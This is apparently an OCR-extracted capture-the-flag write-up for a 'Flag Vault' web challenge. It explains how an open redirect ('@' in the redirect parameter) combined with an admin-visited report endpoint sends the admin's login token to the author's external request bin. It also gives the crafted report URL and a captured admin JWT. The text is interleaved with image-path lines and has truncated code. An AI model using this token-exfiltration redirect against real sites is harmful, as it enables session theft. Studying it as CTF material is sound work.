Flag Vault


problem description

Steps of Analysis

1. Inspecting

We're taken into a small site:


Its body looks like that:

        <h1>Flag Vault</h1>
            <input type="email" required name="email" placeholder="Email" />
            <input type="password" required name="password" placeholder="Password" />
            <button>Show Flag</button>
        <a href="javascript:report()">Report a bug</a>const params = new URLSearchParams(window.location.search);
        const query = Object.fromEntries(params.entries());
        const redirectTo = String(query.redirect || "");

        const form = document.querySelector("form");
        const email = document.querySelector("input[name=email]");
        const password = document.querySelector("input[name=password]");

        form.addEventListener("submit", async function (event) {

            const jsonBody = JSON.stringify({ email:email.value, password: password.value });

            const response = await fetch("/api/v1/login", {
                method: "POST",
                headers: {
                    "Content-Type": "application/json"
                body: jsonBody

            if (response.status === 401) {
                return alert("Invalid email or password");const jsonData = await response.json();
            window.location = location.origin + redirectTo + "?token=" + jsonData.token;

        function report() {
            const url = prompt("URL", window.location.href);
            fetch("/api/v1/report?url=" + encodeURIComponent(url));

POST request sent with the email and password and a secret token probably sent back when the email and the password is correct. Two interesting points there are:

Needless to say that we don't know the "correct" email and password: main_page_error

2. Report a Bug

We can "report" a bug by sending a URL


We assume that "someone" (probably the admin) will enter that link later to watch the given link.

We'd like to make the admin in the other side to enter a link that controlled by us (like in a request bin) to get his cookies (the token in ourcase)

The problem with the above idea is that the server returns an error when it gets external URL.

So we can't send in the "report bug" request a direct link to the request bin because sending: http://flag-vault.chal.intentsummit.org/api/v1/report?url=http://enqr0riu3ob4o6p.m.pipedream.net will result in:


Therefore the link that we give here should be in the same domain.

All in all looks ok, and no bugs being seen so far... :(

But fortunately, there is another place in the code that can send (redirect) us to other place.

3. Redirect

The bug is in the redirect mechanism

The redirection mechanism here takes the content of a parameter named "redirect":

const redirectTo = String(query.redirect || "");

And later concatenates the current address to it

window.location = location.origin + redirectTo + "?token=" + jsonData.token;

Can we make this expression to go outside the domain?

YES :)

We can use the current address to be parsed as a username instead of an address by concatenating to it an "@" symbol.

In that way, sending @enqr0riu3ob4o6p.m.pipedream.net as "redirect" parameter will result in changing the window location to: http://[email protected] The previously-domain-name is now used as a username :)

4. Conclusion

So far, we want to report an address in the domain.

And we want the admin to enter it and to be redirected to the our request-bin, hopefully with its token.

We can achieve it by reporting on this URL: http://flag-vault.chal.intentsummit.org/[email protected]The address here is in the "right domain", and upon redirection the "right domain" will betreated as a username.



According to the above, we'll send this request first: http://flag-vault.chal.intentsummit.org/api/v1/report?url=http://flag-vault.chal.intentsummit.org/[email protected] In response we get the token to the request bin! request_bin_token

The expiration date of the token is 10 seconds, so in that time we should quickly send: http://flag-vault.chal.intentsummit.org/admin/?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJhZG1pbiI6dHJ1ZSwiaWF0IjoxNjM2OTI1NTU0LCJleHAiOjE2MzY5MjU1NjR9.kkBa7w3fkp2kO06TcV-V1lYQFCrfNVBIbG5TFd8RS1I response: